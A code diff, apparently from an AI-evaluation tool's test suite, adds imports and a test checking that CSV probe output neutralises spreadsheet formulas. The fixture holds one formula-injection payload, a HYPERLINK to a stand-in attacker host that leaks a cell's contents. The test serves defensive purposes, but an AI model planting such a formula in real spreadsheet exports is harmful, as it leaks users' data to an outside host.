@@ -7,6 +7,8 @@ judge's rationale and the probe ids carry the same payloads.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import xml.etree.ElementTree as ET
@@ -17,7 +19,14 @@ import pytest
 import yaml
 
 from pytest_aligngate.cli import main
-from pytest_aligngate.safe_text import markdown_code, markdown_inert, redact, single_line, watch_secret_env
+from pytest_aligngate.safe_text import (
+    markdown_code,
+    markdown_inert,
+    redact,
+    single_line,
+    spreadsheet_cell,
+    watch_secret_env,
+)
 from pytest_aligngate.testing.fixtures import ServerFactory, write_config
 from pytest_aligngate.testing.scripts import RecordedRequest, ScriptedReply
 from pytest_aligngate.testing.server import SimulatedOpenAIServer
@@ -286,3 +295,15 @@ def test_ci_log_format_keeps_commands_its_own(
     commands = [line for line in captured.err.splitlines() if line.lstrip().startswith("::")]
     assert commands and all(line.startswith(f"::error title=aligngate {AXIS}::") for line in commands)
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", captured.err)
+
+
+def test_probe_csv_never_holds_a_spreadsheet_formula(
+    tmp_path: Path, make_server: ServerFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    server = make_server(scripts={"excel": lambda request, server: ScriptedReply(content=formula)})
+    config = write_config(tmp_path / "aligngate.yaml", server.url, probes={"sample": 5, "axes": [AXIS]})
+    assert main(["probe", "--config", str(config), "--model", "excel", "--output-format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert len(rows) == 5 and all(row["response"] == "'" + formula for row in rows)
+    assert spreadsheet_cell("-1+1") == "'-1+1" and spreadsheet_cell("fine = ok") == "fine = ok"
